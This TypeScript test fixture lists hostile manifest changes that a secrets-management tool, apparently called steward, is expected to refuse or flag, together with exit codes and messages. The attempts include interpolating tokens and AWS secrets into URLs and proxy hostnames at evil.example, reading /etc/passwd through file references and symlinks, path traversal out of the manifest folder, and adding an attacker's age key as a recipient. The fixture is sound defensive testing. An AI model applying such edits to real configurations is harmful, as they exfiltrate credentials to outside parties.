import { renameSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { origin } from "./commands-fixture.ts";

/** Where an attempt may put what it brings along. */
export interface Surroundings {
  folder: string;
  /** A folder that is none of ours. */
  outside: string;
  write(name: string, text: string): void;
}

/** A change of the manifest, or of what lies beside it, that somebody proposes. */
export interface Attempt {
  name: string;
  edit(text: string): string;
  /** Links and files that come with it. */
  bring?(at: Surroundings): void;
  /** 65 where the manifest itself is wrong, 4 where it means another place than the one that is trusted. */
  code: 65 | 4;
  says: string;
  /** What to do. */
  way: string;
  /** `plan --actual` reads no state: it shows what is new as a notice, and what it does not know as left out. */
  actual?: string;
}

const first = (value: string) => (text: string) =>
  text.replace("password: {", `first_name: ${value}\n      password: {`);
export const password = (value: string) => (text: string) =>
  text.replace(/password: \{.*\}/, `password: { value: ${value} }`);
const system = (more: string) => (text: string) => text.replace("enterprise: Acme", `enterprise: Acme, ${more}`);
const url = (value: string) => (text: string) => text.replace(`"${origin}"`, `"${value}"`);
const sinkPath = (value: string) => (text: string) => text.replace('"secrets/${environment}/"', `"${value}"`);
const recipients = (value: string) => (text: string) => text.replace(/recipients: \[.*?\]/, `recipients: [${value}]`);
const same = (text: string) => text;
const eve = "age1l7fyp7tvdztwe34ewz2r6z8kxenz4v75w23ka3a87rj9tfmqqyzqj2mdsq";
const secretHere = "is a secret, and this is not a secret attribute";
const leaves = "leaves the manifest's folder";
const changed = "system velocloud changed since it was trusted";
const sinkChanged = "sink local changed since it was trusted";
const pin = "steward trust";
const linked = "where state or secrets go is trusted by its path";

/** Puts a link in the place of a folder that is there. */
export function swap(at: Surroundings, name: string, target: "inside" | "outside"): void {
  const moved = join(at.folder, "moved");
  renameSync(join(at.folder, name), moved);
  symlinkSync(target === "inside" ? moved : at.outside, join(at.folder, name));
}

export const attempts: Record<string, Attempt[]> = {
  "${env}": [
    { name: "in a name", edit: first('"${env.AWS_SECRET}"'), code: 65, says: secretHere, way: "first_name" },
    {
      name: "in the URL",
      edit: url("https://evil.example/${env.VCO_TOKEN}"),
      code: 65,
      says: secretHere,
      way: "${env.…}",
    },
    {
      name: "in the path of the sink",
      edit: sinkPath("secrets/${environment}/${env.VCO_TOKEN}"),
      code: 65,
      says: secretHere,
      way: "${env.…}",
    },
    {
      name: "beside text",
      edit: password('"x${env.AWS_SECRET}"'),
      code: 65,
      says: "must be the whole value",
      way: "${env.…}",
    },
    {
      name: "of a new system with the same credentials",
      edit: (text) =>
        text.replace(
          "systems:",
          'systems:\n  evil: { type: velocloud, url: "https://evil.example", credentials: { token: "${env.VCO_TOKEN}" } }',
        ),
      ...{
        code: 4,
        says: "system evil is not trusted yet",
        way: "steward trust --env test evil",
        actual: "system evil is new: apply refuses it",
      },
    },
  ],
  "${file}": [
    { name: "of the machine", edit: password('"${file:/etc/passwd}"'), code: 65, says: leaves, way: "path" },
    { name: "above", edit: password('"${file:../key}"'), code: 65, says: leaves, way: "path" },
    { name: "in a name", edit: first('"${file:key}"'), code: 65, says: secretHere, way: "first_name" },
    {
      name: "behind a link",
      edit: password('"${file:keys/passwd}"'),
      bring: (at) => symlinkSync("/etc", join(at.folder, "keys")),
      code: 65,
      says: "through a link",
      way: "path",
    },
  ],
  "${sink}": [
    {
      name: "in a name",
      edit: first('"${sink:local:velocloud/ci-token}"'),
      code: 65,
      says: secretHere,
      way: "first_name",
    },
    {
      name: "that climbs",
      edit: password('"${sink:local:../prod/velocloud/ci-token}"'),
      code: 65,
      says: leaves,
      way: "path",
    },
    {
      name: "in the address of a proxy",
      edit: system('proxy: "http://${sink:local:velocloud/ci-token}.evil.example"'),
      code: 65,
      says: secretHere,
      way: "${sink:…}",
    },
    {
      name: "in the URL",
      edit: url("https://evil.example/${sink:local:velocloud/ci-token}"),
      code: 65,
      says: secretHere,
      way: "${sink:…}",
    },
  ],
  symlink: [
    {
      name: "in place of the sink, leading out",
      edit: same,
      bring: (at) => swap(at, "secrets/test", "outside"),
      code: 65,
      says: "leads out of the manifest's folder through a link",
      way: "write a path inside the manifest's folder",
    },
    {
      name: "in place of the state, leading out",
      edit: same,
      bring: (at) => swap(at, ".steward/state/test", "outside"),
      code: 65,
      says: "leads out of the manifest's folder through a link",
      way: "write a path inside the manifest's folder",
    },
    {
      name: "in place of the sink, to another folder of the repository",
      edit: same,
      bring: (at) => swap(at, "secrets", "inside"),
      code: 4,
      says: linked,
      way: "see who brought the link",
      actual: "No changes.",
    },
    {
      name: "inside the sink, leading out",
      edit: same,
      bring: (at) => swap(at, "secrets/test/velocloud", "outside"),
      code: 4,
      says: linked,
      way: "see who brought the link",
      actual: "No changes.",
    },
    {
      name: "in place of the state, to another folder of the repository",
      edit: same,
      bring: (at) => swap(at, ".steward/state", "inside"),
      code: 4,
      says: linked,
      way: "see who brought the link",
      actual: "No changes.",
    },
    {
      name: "in place of the log",
      edit: same,
      bring: (at) => swap(at, ".steward/state/test/log.jsonl", "inside"),
      code: 4,
      says: linked,
      way: "see who brought the link",
      actual: "No changes.",
    },
    {
      name: "in place of a state folder that nobody named",
      edit: (text) =>
        text
          .replace(/^state:.*$/m, "")
          .replace("prod: { protected: true }", "")
          .replace(/\$\{environment\}\//, "test/"),
      bring: (at) => swap(at, ".steward", "inside"),
      ...{ code: 4, says: linked, way: "see who brought the link", actual: "No changes." },
    },
  ],
  url: [
    { name: "of somebody else", edit: url("https://vco.evil.example"), code: 4, says: changed, way: pin },
    { name: "with another path", edit: url(`${origin}/evil`), code: 4, says: changed, way: pin },
    { name: "with another port", edit: url(`${origin}:8443`), code: 4, says: changed, way: pin },
    {
      name: "without TLS",
      edit: url("http://vco.example.net"),
      code: 65,
      says: "must begin with https://",
      way: "https",
    },
    {
      name: "with credentials",
      edit: url("https://me:hunter2@vco.example.net"),
      code: 65,
      says: "url holds credentials",
      way: "credentials",
    },
    {
      name: "of one environment alone",
      edit: (text) => text.replace("test: {}", 'test: { systems: { velocloud: { url: "https://vco.evil.example" } } }'),
      ...{ code: 4, says: changed, way: pin },
    },
  ],
  path: [
    { name: "of the sink", edit: sinkPath("public/${environment}"), code: 4, says: sinkChanged, way: pin },
    {
      name: "of the sink, outside",
      edit: sinkPath("../${environment}"),
      code: 65,
      says: "path is not in the form",
      way: "path",
    },
    {
      name: "of a delivery that climbs",
      edit: (text) => text.replace("local:velocloud/ci-token", "local:../prod/ci-token"),
      code: 65,
      says: leaves,
      way: "path",
    },
    {
      name: "of a state without pins",
      edit: (text) => text.replace(".steward/state/", "fresh/"),
      ...{ code: 4, says: "system velocloud is not trusted yet", way: pin, actual: "No changes." },
    },
    {
      name: "of the state, outside",
      edit: (text) => text.replace(".steward/state/", "../state/"),
      code: 65,
      says: leaves,
      way: "write a path inside",
    },
    {
      name: "of the state for all environments",
      edit: (text) => text.replace(".steward/state/${environment}", "state"),
      code: 65,
      says: "must contain ${environment}",
      way: "several environments",
    },
  ],
  proxy: [
    {
      name: "that listens in",
      edit: system("proxy: http://proxy.evil.example:3128"),
      code: 4,
      says: changed,
      way: pin,
    },
    {
      name: "with credentials",
      edit: system("proxy: http://me:hunter2@proxy.evil.example"),
      code: 65,
      says: "proxy holds credentials",
      way: "proxy",
    },
    {
      name: "of another protocol",
      edit: system("proxy: socks5://proxy.evil.example"),
      code: 65,
      says: "proxy is not a URL",
      way: "proxy",
    },
    {
      name: "whose certificates are trusted, too",
      edit: system("ca_file: eve.pem"),
      bring: (at) => at.write("eve.pem", "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"),
      ...{ code: 4, says: changed, way: pin },
    },
    {
      name: "whose certificates lie elsewhere",
      edit: system("ca_file: /etc/ssl/cert.pem"),
      code: 65,
      says: "the file of ca_file",
      way: "inside the manifest's folder",
    },
  ],
  "sink recipients": [
    {
      name: "one more",
      edit: (text) => text.replace("recipients: [", `recipients: [${eve}, `),
      code: 4,
      says: sinkChanged,
      way: pin,
    },
    { name: "another one", edit: recipients(eve), code: 4, says: sinkChanged, way: pin },
    { name: "that are no age keys", edit: recipients("ssh-rsa AAAA"), code: 65, says: "recipients[0]", way: "form" },
    {
      name: "that are everybody, by another type",
      edit: (text) =>
        text
          .replace(
            /type: age, path: "secrets\/\$\{environment\}\/", recipients: \[.*?\]/,
            'type: env-file, path: "secrets/${environment}/"',
          )
          .replace("local:velocloud/ci-password", "local:PASSWORD")
          .replace("local:velocloud/ci-token", "local:TOKEN"),
      ...{ code: 4, says: sinkChanged, way: pin },
    },
    {
      name: "of a sink of its own",
      edit: (text) =>
        text
          .replace("sinks:", `sinks:\n  eve: { type: age, path: "eve/\${environment}", recipients: [${eve}] }`)
          .replace("local:velocloud/ci-token", "eve:velocloud/ci-token"),
      ...{
        code: 4,
        says: "sink eve is not trusted yet",
        way: "steward trust --env test eve",
        actual: "sink eve is new: apply refuses it",
      },
    },
  ],
  variables: [
    {
      name: "that are not declared",
      edit: first('"${var.AWS_SECRET}"'),
      code: 65,
      says: "AWS_SECRET",
      way: "variables",
    },
    {
      name: "that bear the name of a secret",
      edit: (text) => first('"${var.VCO_TOKEN}"')(`variables: { VCO_TOKEN: {} }\n${text}`),
      ...{ code: 65, says: "VCO_TOKEN", way: "STEWARD_VAR_" },
    },
    {
      name: "whose default is a secret",
      edit: (text) => first('"${var.x}"')(`variables: { x: { default: "\${env.AWS_SECRET}" } }\n${text}`),
      ...{ code: 65, says: "${env", way: "variables" },
    },
    {
      name: "that move the system",
      edit: (text) => url("https://${var.host}")(`variables: { host: { default: vco.evil.example } }\n${text}`),
      ...{ code: 4, says: changed, way: pin },
    },
  ],
};
